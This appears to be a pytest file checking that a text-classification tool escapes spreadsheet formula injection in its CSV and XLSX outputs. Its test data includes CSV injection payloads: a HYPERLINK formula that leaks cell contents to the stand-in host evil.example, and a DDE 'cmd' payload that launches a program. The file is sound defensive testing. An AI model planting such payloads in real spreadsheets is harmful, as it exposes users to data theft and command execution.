"""Spreadsheet safety (issue 15): formula injection escaped in CSV / XLSX outputs only, and XLSX
zip bombs refused before parsing, rows bounded, workbooks streamed."""

from __future__ import annotations

import openpyxl
import pandas as pd
import pytest

from cxnlp.batch import classify_file
from cxnlp.io import escape_formula, read_table, write_table

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = ["Great app", "-5", "+98", "خیلی خوب بود"]


def test_escape_formula_follows_owasp():
    for text in HOSTILE:
        assert escape_formula(text) == "'" + text
    for text in PLAIN:
        assert escape_formula(text) == text
    assert escape_formula(3) == 3 and escape_formula(None) is None


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".jsonl", ".parquet"])
def test_classify_escapes_formulas_in_spreadsheet_outputs_only(tiny_fast_model, tmp_path, suffix):
    texts = HOSTILE + PLAIN
    source = tmp_path / "in.jsonl"
    pd.DataFrame({"id": range(len(texts)), "text": texts}).to_json(
        source, orient="records", lines=True, force_ascii=False
    )
    out = tmp_path / f"out{suffix}"
    classify_file(tiny_fast_model, source, out, progress=False)
    if suffix == ".xlsx":
        sheet = openpyxl.load_workbook(out).worksheets[0]
        cells = [row[1] for row in sheet.iter_rows(min_row=2)]
        assert all(c.data_type == "s" for c in cells)  # no formula cell
        got = [c.value for c in cells]
    elif suffix == ".csv":
        got = pd.read_csv(out, dtype=str, keep_default_na=False)["text"].tolist()
    else:
        got = read_table(out)["text"].tolist()
    if suffix in (".csv", ".xlsx"):
        expected = ["'" + t for t in HOSTILE] + PLAIN
        if suffix == ".xlsx":  # openpyxl gives a CR inside a cell back as LF
            expected = [t.replace("\r", "\n") for t in expected]
        assert got == expected
    else:
        assert got == texts  # the original text, untouched


def test_write_table_escapes_csv(tmp_path):
    write_table(pd.DataFrame({"text": ["=1+1", "ok"], "n": [1, -2]}), tmp_path / "o.csv")
    back = pd.read_csv(tmp_path / "o.csv")
    assert back["text"].tolist() == ["'=1+1", "ok"] and back["n"].tolist() == [1, -2]
